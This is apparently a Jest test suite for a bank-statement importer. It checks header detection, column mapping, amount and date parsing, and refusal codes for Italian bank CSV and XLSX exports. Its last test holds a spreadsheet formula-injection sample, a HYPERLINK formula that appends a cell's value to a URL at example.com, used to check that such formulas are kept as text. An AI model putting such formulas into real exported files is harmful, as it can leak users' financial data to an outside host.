import { describe, expect, it } from '@jest/globals';
import { formatApplicationCode } from '@lacorte/contracts';
import { read, refusal, xlsx } from '../../test/statement-files';

const CODE = formatApplicationCode(2026, 123);
const IBAN = 'IT60X0542811101000000123456';
const table = (...lines: string[]) => read(lines.join('\n'));
const lines = (refused: { line: number; code: string }[]) => refused.map(({ line, code }) => [line, code]);

describe('tables as banks give them', () => {
  it('Intesa: a dozen lines above the header, two texts, credits and debits in two columns', async () => {
    const above = Array.from({ length: 11 }, (_, index) => [`Riga ${index}`]);
    const header = [
      'Data contabile',
      'Data valuta',
      'Descrizione',
      'Accrediti',
      'Addebiti',
      'Descrizione estesa',
      'Mezzo',
    ];
    const day = new Date('2026-11-05T00:00:00Z');
    const file = await xlsx([
      ...[...above, [IBAN], header],
      [day, day, 'Bonifico', 150, null, `COD. DISP. ${CODE.replace('-', ' ')}`, 'Internet'],
      [day, day, 'Canone', null, -12.5, 'CANONE', 'Sportello'],
    ]);
    const { credits, accounts, ...rest } = await read(file);
    expect(credits).toEqual([
      {
        ...{
          line: 14,
          date: '2026-11-05',
          amountCents: 15_000,
          currency: 'EUR',
          payer: '',
          reference: null,
          entry: null,
        },
        ...{ text: `Bonifico COD. DISP. ${CODE.replace('-', ' ')}`, codes: [CODE] },
      },
    ]);
    expect(accounts).toEqual([IBAN]);
    expect(rest).toMatchObject({ format: 'table', refused: [], ignored: 12, balances: null });
    expect(rest.table).toMatchObject({
      mapping: { headerLine: 13, date: 0, credit: 3, debit: 4, text: [2, 5] },
      ...{ headerLine: 13, columns: header, isGuessed: true },
      rows: [['2026-11-05', '2026-11-05', 'Bonifico', '150', '', expect.any(String), 'Internet'], expect.any(Array)],
    });
  });

  it('Fineco: negative debits in a column of their own', async () => {
    const file = await xlsx([
      ...[['Conto Corrente: 1'], ['Intestazione'], [null], ['Periodo'], [null], [null]],
      ['Data', 'Entrate', 'Uscite', 'Descrizione', 'Descrizione_Completa', 'Stato', 'Moneymap'],
      ['05/11/2026', 150, null, 'Bonifico SEPA', 'Ord: Rossi', 'Contabilizzato', 'Altro'],
      ['05/11/2026', null, -9.95, 'Canone', 'Canone', 'Contabilizzato', 'Altro'],
    ]);
    const { credits, refused, ignored } = await read(file);
    expect([refused, ignored]).toEqual([[], 3]);
    expect(credits).toMatchObject([{ line: 8, amountCents: 15_000, text: 'Bonifico SEPA Ord: Rossi' }]);
  });

  it('RelaxBanking: years of two digits, and thousands with dots', async () => {
    const { credits } = await table(
      'Data contabile;Data valuta;Importo;Descrizione;Note',
      '05/11/26;06/11/26;1.150,00;BONIFICO;DOM 2026',
      '06/11/26;06/11/26;-1,50;SPESE;',
    );
    expect(credits).toMatchObject([{ date: '2026-11-05', amountCents: 115_000, text: 'BONIFICO DOM 2026' }]);
  });

  it.each([
    ['BPM', 'Data contabile;Data valuta;Divisa;Importo', '05/11/2026;05/11/2026;CHF;150,00', 'CHF'],
    [
      'Poste',
      'Data Contabile;Data Valuta;Addebiti (€);Descrizione operazione;Dare;Avere',
      '05/11/2026;;;PERCHÉ;;150,00',
      'EUR',
    ],
    [
      'UniCredit',
      'Data Registrazione;Data valuta;Descrizione;Importo (EUR)',
      '05.11.2026;05.11.2026;CITTÀ;150,00',
      'EUR',
    ],
    ['BPER', 'Data operazione;Valuta;Descrizione;Dare;Avere', '05/11/2026;05/11/2026;È;0,00;150,00', 'EUR'],
  ])('%s: Windows-1252, balances above and below', async (_, header, row, currency) => {
    const file = ['Saldo iniziale;1.000,00', '', header, row, ';;Saldo finale', row.replace('150,00', '-9,00')].join(
      '\r\n',
    );
    const { credits, ignored, refused } = await read(Buffer.from(file, 'latin1'));
    expect(credits).toMatchObject([{ line: 4, date: '2026-11-05', amountCents: 15_000, currency }]);
    expect([refused, ignored]).toEqual([[], 2]);
    if (/[ÉÀÈ]/.test(row)) expect(credits[0]?.text).toMatch(/[ÉÀÈ]/);
  });
});

describe('the header of a table', () => {
  it('may be written in any way, and the first names count', async () => {
    const { table: known } = await table(
      'DATA_VALUTA,Data.Contabile,[ Importo  Euro ],Nóte,causale,Nome,Contro parte,C.R.O.,Riferimento_Banca,Valuta,Divisa',
      ...['01/01/2025,05/11/2026,1.00,n,c,a,b,c,d,EUR,EUR'],
    );
    expect(known?.mapping).toEqual({
      ...{ headerLine: 1, date: 1, amount: 2, text: [3, 4], payer: 6, reference: 8, currency: 10 },
    });
  });

  it('takes `valuta` for the currency only where it holds codes', async () => {
    const header = 'Data;Valuta;Importo';
    const ofDays = await table(header, '05/11/2026;06/11/2026;1,00');
    expect([ofDays.table?.mapping.currency, ofDays.credits[0]?.currency]).toEqual([undefined, 'EUR']);
    const ofCodes = await table(header, '05/11/2026;usd;1,00', 'Totale;;1,00');
    expect([ofCodes.table?.mapping.currency, ofCodes.credits[0]?.currency]).toEqual([1, 'USD']);
    const other = await table('Data;Divisa;Importo', '05/11/2026;EURO;1,00', '05/11/2026;242;1,00');
    expect([other.credits.length, lines(other.refused)]).toEqual([1, [[3, 'payments-row-currency']]]);
  });

  it('is looked for in thirty lines', async () => {
    const [header, row] = ['Data;Importo', '05/11/2026;1,00'];
    const above = (count: number) => '\n'.repeat(count);
    expect((await read(`${above(29)}${header}\n${row}`)).credits).toMatchObject([{ line: 31 }]);
    const { code, table: shown } = await refusal(`x;y\n${above(29)}${header}\n${row}`);
    expect([code, shown?.headerLine]).toEqual(['payments-columns-unknown', 1]);
  });

  it('twice in a file is a line that is left out', async () => {
    const { credits, ignored } = await table('Data;Importo', '05/11/2026;1,00', 'Data;Importo', '06/11/2026;2,00');
    expect([credits.length, ignored]).toEqual([2, 1]);
  });

  it.each([
    'Data;Importo;Importo EUR',
    'Data;Avere;Entrate;Dare',
    'Data;Avere;Dare;Uscite',
    'Data;Importo;Dare;Avere',
    'Data;Importo;Avere',
    'Data;Avere;Causale',
    'Data;Uscite;Causale',
    'Giorno;Importo;Causale',
    'Nome;Cognome;Nato',
  ])('%s must be explained', async (header) => {
    const row = '05/11/2026;150,00;2,00;'.split(';').slice(0, header.split(';').length).join(';');
    const { status, code, table: shown } = await refusal([header, row].join('\n'));
    expect([status, code]).toEqual([400, 'payments-columns-unknown']);
    expect(shown).toMatchObject({ headerLine: 1, columns: header.split(';'), rows: [row.split(';')] });
    expect(shown).toHaveProperty('suggestion');
  });
});

describe('a table whose columns are not known', () => {
  it('is shown with the first of its fullest lines as header, at most five rows, and a suggestion', async () => {
    const row = (day: number) => `${day}/11/2026;Rossi;150,00;quota ${CODE} di Lucia`;
    const file = ['Banca;x', '', ' Giorno ;Chi;Soldi;Perché', ...[1, 2, 3, 4, 5, 6].map(row), 'Totale;;900,00;'];
    expect((await refusal(file.join('\n'))).table).toEqual({
      headerLine: 3,
      columns: ['Giorno', 'Chi', 'Soldi', 'Perché'],
      rows: [1, 2, 3, 4, 5].map((day) => row(day).split(';')),
      suggestion: { headerLine: 3, date: 0, amount: 2, text: [3] },
    });
  });

  it('without a header is shown from its first line, and remembers nothing', async () => {
    const asked: string[][] = [];
    const remembered = async (columns: string[]) => {
      asked.push(columns);
      return null;
    };
    const file = '05/11/2026;Rossi;150,00;quota\n06/11/2026;Neri;1,00;';
    expect((await refusal(file, { remembered })).table).toEqual({
      ...{ headerLine: 0, columns: ['', '', '', ''] },
      rows: [
        ['05/11/2026', 'Rossi', '150,00', 'quota'],
        ['06/11/2026', 'Neri', '1,00', ''],
      ],
      suggestion: { headerLine: 0, date: 0, amount: 2, text: [1] },
    });
    expect(asked).toEqual([]);
    const columns = { headerLine: 0, date: 0, amount: 2, text: [3], payer: 1 };
    const { credits, ignored, table: followed } = await read(file, { columns });
    expect([credits.length, ignored, followed?.columns]).toEqual([2, 0, ['', '', '', '']]);
    expect(credits[0]).toMatchObject({ line: 1, payer: 'Rossi', text: 'quota', amountCents: 15_000 });
  });

  it('has a suggestion for ambiguous names, and none without a day or an amount', async () => {
    const pair = await refusal('Data;Importo;Dare;Avere;Causale\n05/11/2026;1,00;;1,00;quota');
    expect(pair.table?.suggestion).toEqual({ headerLine: 1, date: 0, credit: 3, debit: 2, text: [4] });
    const two = await refusal('Data;Importo;Importo EUR\n05/11/2026;1,00;1,00');
    expect(two.table?.suggestion).toMatchObject({ date: 0, amount: 1 });
    expect((await refusal('Nome;Cognome\nLucia;Rossi')).table?.suggestion).toBeNull();
    expect((await refusal('Giorno;Chi\n05/11/2026;Rossi')).table?.suggestion).toBeNull();
  });

  it('is read by columns that are remembered for its header, wherever the header stands', async () => {
    const mapping = { headerLine: 1, date: 0, amount: 1 };
    const remembered = async (columns: string[]) => (columns.join() === 'Giorno,Importo,x' ? mapping : null);
    const { credits, table: followed } = await read('Banca;1\n\nGiorno; Importo ;x\n05/11/2026;1,00;y', { remembered });
    expect(credits).toMatchObject([{ line: 4 }]);
    expect(followed).toMatchObject({ headerLine: 3, mapping: { ...mapping, headerLine: 3 }, isGuessed: true });
  });
});

describe('columns that a person has assigned', () => {
  const file = 'Data;Importo;Data valuta;Causale\n05/11/2026;1,00;06/11/2026;quota';

  it('are followed also for a known header and for one that is remembered', async () => {
    const columns = { headerLine: 1, date: 2, amount: 1, text: [3, 0] };
    const remembered = async () => ({ headerLine: 1, date: 0, amount: 1 });
    const { credits, table: followed } = await read(file, { columns, remembered });
    expect(credits).toMatchObject([{ date: '2026-11-06', text: 'quota 05/11/2026' }]);
    expect(followed).toMatchObject({ mapping: columns, isGuessed: false });
    expect((await read(file, { remembered })).table?.isGuessed).toBe(true);
    const own = await read('data;importo;causale\n05/11/2026;1,00;quota', { remembered });
    expect([own.format, own.credits[0]?.text]).toEqual(['table', '']);
  });

  it.each([
    { headerLine: 1, date: 4, amount: 1 },
    { headerLine: 1, date: 0 },
    { headerLine: 1, date: 0, credit: 1 },
    { headerLine: 1, date: 0, amount: 1, credit: 2, debit: 3 },
    { headerLine: 1, date: 0, amount: 0 },
    { headerLine: 1, date: 0, credit: 1, debit: 1 },
    { headerLine: 3, date: 0, amount: 1 },
    { headerLine: 31, date: 0, amount: 1 },
    { headerLine: -1, date: 0, amount: 1 },
    { date: 0, amount: 1 },
    { headerLine: 1, date: 0.5, amount: 1 },
    { headerLine: 1, date: '0', amount: 1 },
    { headerLine: 1, date: -1, amount: 1 },
    { headerLine: 1, date: 0, amount: 1, text: [9] },
    { headerLine: 1, date: 0, amount: 1, text: 3 },
    { headerLine: 1, date: 0, amount: 1, text: [3, 3, 3, 3, 3] },
    { headerLine: 1, date: 0, amount: 1, payer: 4 },
    { headerLine: 1, date: 0, amount: 1, reference: null, currency: 'x' },
    ['x'],
    ...['x', '', 0, null],
  ])('are refused as %j', async (columns) => {
    expect(await refusal(file, { columns: columns as never })).toMatchObject({
      ...{ status: 400, code: 'validation', fields: { columns: 'payments.columnsInvalid' } },
    });
  });

  it.each(['<Document><BkToCstmrStmt/></Document>', ` RH${' '.repeat(12)}051126`])('do not fit %j', async (other) => {
    const { fields } = await refusal(other, { columns: { headerLine: 1, date: 0, amount: 1 } });
    expect(fields).toEqual({ columns: 'payments.columnsInvalid' });
  });
});

describe('a line of a table', () => {
  it('is left out without a date or an amount, refused where digits cannot be read, and not counted as a debit', async () => {
    const { credits, ignored, refused } = await table(
      'Saldo iniziale;1.000,00',
      'Data;Importo;Causale',
      '05/11/2026;150,00;credito',
      '05/11/2026;-150,00;debito',
      ';150,00;senza data',
      '05/11/2026;;senza importo',
      'Totale;150,00;parole',
      '05/11/2026;gratis;parole',
      ' ; ; ',
      '31/02/2026;150,00;giorno',
      'Saldo al 30/11/2026;150,00;saldo',
      '05/11/2026;1.15,000;importo',
      '05/11/2026;0,00;zero',
      '05/11/2020;150,00;anno',
      '05/11/2028;150,00;anno',
      '05/11/2027;150,00;anno',
    );
    expect(credits.map(({ text }) => text)).toEqual(['credito', 'anno']);
    expect(ignored).toBe(5);
    expect(lines(refused)).toEqual([
      ...[10, 11].map((line) => [line, 'payments-row-date']),
      ...[12, 13].map((line) => [line, 'payments-row-amount']),
      ...[14, 15].map((line) => [line, 'payments-row-year']),
    ]);
  });

  it('with credit and debit is what one of the two says', async () => {
    const { credits, ignored, refused } = await table(
      'Data;Dare;Avere',
      '05/11/2026;;150,00',
      '05/11/2026;0,00;151,00',
      '05/11/2026;-;152,00',
      '05/11/2026;10,00;',
      '05/11/2026;-10,00;0,00',
      '05/11/2026;;-10,00',
      '05/11/2026;;',
      '05/11/2026;1,00;2,00',
      '05/11/2026;1,2,3;2,00',
      '05/11/2026;0,00;0,00',
    );
    expect(credits.map(({ line, amountCents }) => [line, amountCents])).toEqual([
      [2, 15_000],
      [3, 15_100],
      [4, 15_200],
    ]);
    expect([ignored, lines(refused)]).toEqual([1, [9, 10, 11].map((line) => [line, 'payments-row-amount'])]);
  });

  it('has a code although the bank broke it, across columns too', async () => {
    const { credits } = await table(
      'Data;Importo;Causale;Note',
      `05/11/2026;150,00;"BONIFICO CAUSALE: ${CODE.slice(0, 11)} ${CODE.slice(11, 14)}\n${CODE.slice(14)} DEL";`,
      `05/11/2026;150,00;ORD: ROSSI ${CODE.slice(0, 12)};${CODE.slice(12)}`,
    );
    expect(credits.map(({ codes }) => codes)).toEqual([[CODE], [CODE]]);
    const long = await table('Data;Importo;Causale', `05/11/2026;150,00;${'x'.repeat(1_500)} ${CODE}`);
    expect([long.credits[0]?.text.length, long.credits[0]?.codes]).toEqual([1_000, [CODE]]);
  });

  it('has no reference in words and running numbers', async () => {
    const of = async (...references: string[]) => {
      const rows = references.map((reference) => `05/11/2026;1,00;${reference}`);
      return (await table('Data;Importo;CRO', ...rows)).credits.map(({ reference }) => reference);
    };
    expect(await of('NOTPROVIDED', 'Not Provided', 'notavailable', 'NONREF', '-', '0', '000', '', 'A1')).toEqual([
      ...Array.from({ length: 8 }, () => null),
      'A1',
    ]);
    expect(await of('1', '2', '3')).toEqual([null, null, null]);
    expect(await of('003', '002', '001')).toEqual([null, null, null]);
    expect(await of('1', '3')).toEqual([null, null]);
    expect(await of('1001', '1002')).toEqual(['1001', '1002']);
    expect(await of('1', '1', '2')).toEqual(['1', '1', '2']);
    expect(await of('2', '2')).toEqual(['2', '2']);
  });
});

describe('a file with too many rows', () => {
  it('is read up to 50,000 of them, and up to 1,000 that are refused', async () => {
    const { ignored, refused } = await read(`Data;Importo\n${'x;\n'.repeat(50_005)}`);
    expect([ignored, lines(refused)]).toEqual([50_000, [[50_002, 'payments-row-too-many']]]);
    const wrong = await read(`Data;Importo\n${'1;1\n'.repeat(1_500)}05/11/2026;1,00`);
    expect([wrong.credits, wrong.refused.length]).toEqual([[], 1_001]);
    expect(lines(wrong.refused).slice(-2)).toEqual([
      [1_001, 'payments-row-date'],
      [1_002, 'payments-row-too-many-invalid'],
    ]);
  });

  it('ends where a quotation mark is never closed', async () => {
    const { credits, refused } = await table('Data;Importo;Causale', '05/11/2026;1,00;a', '05/11/2026;1,00;"b');
    expect([credits.length, lines(refused)]).toEqual([1, [[3, 'payments-row-unclosed-quote']]]);
  });
});

describe('the own CSV', () => {
  it('has the needed columns, in any order and case, and no others', async () => {
    for (const header of [
      'data;importo;ordinante;causale;riferimento',
      ' CAUSALE,Data,"Importo"',
      'causale;importo;data',
    ]) {
      expect([header, (await read(`${header}\n`)).format]).toEqual([header, 'own']);
    }
    for (const header of [
      'data;importo',
      'data;importo;causale;altro',
      'data;importo;causale;causale',
      'x\ndata;importo;causale',
    ]) {
      expect([header, (await read(`${header}\n`)).format]).toEqual([header, 'table']);
    }
  });

  it('has its values as section 7 writes them; what is missing is refused', async () => {
    const file = await table(
      'data;importo;ordinante;causale;riferimento',
      '22/11/2026;150,00;Rossi;quota;A1',
      '2026-11-22;150.00;Rossi;quota;A1;zu viel',
      '22/11/2016;1;;;NOTPROVIDED',
      '22/11/2026;-1,00;Rossi;spese;',
      ...['22/11/26;1;;;', ';1;;;', '22/11/2026;;;;', '22/11/2026;gratis;;;', '22/11/2026;0,00;;;', ';;;;'],
    );
    expect(file.credits.map(({ line, date, reference }) => [line, date, reference])).toEqual([
      [2, '2026-11-22', 'A1'],
      [3, '2026-11-22', 'A1'],
      [4, '2016-11-22', null],
    ]);
    expect([file.ignored, file.table, lines(file.refused)]).toEqual([
      ...[0, null],
      [
        ...[6, 7].map((line) => [line, 'payments-row-date']),
        ...[8, 9, 10].map((line) => [line, 'payments-row-amount']),
      ],
    ]);
  });

  it('keeps formulas as text', async () => {
    const formula = '=HYPERLINK("http://example.com?x="&A1)';
    const { credits } = await table('data;importo;causale', `1/1/2026;1;"${formula.replaceAll('"', '""')}"`);
    expect(credits).toMatchObject([{ text: formula }]);
  });
});
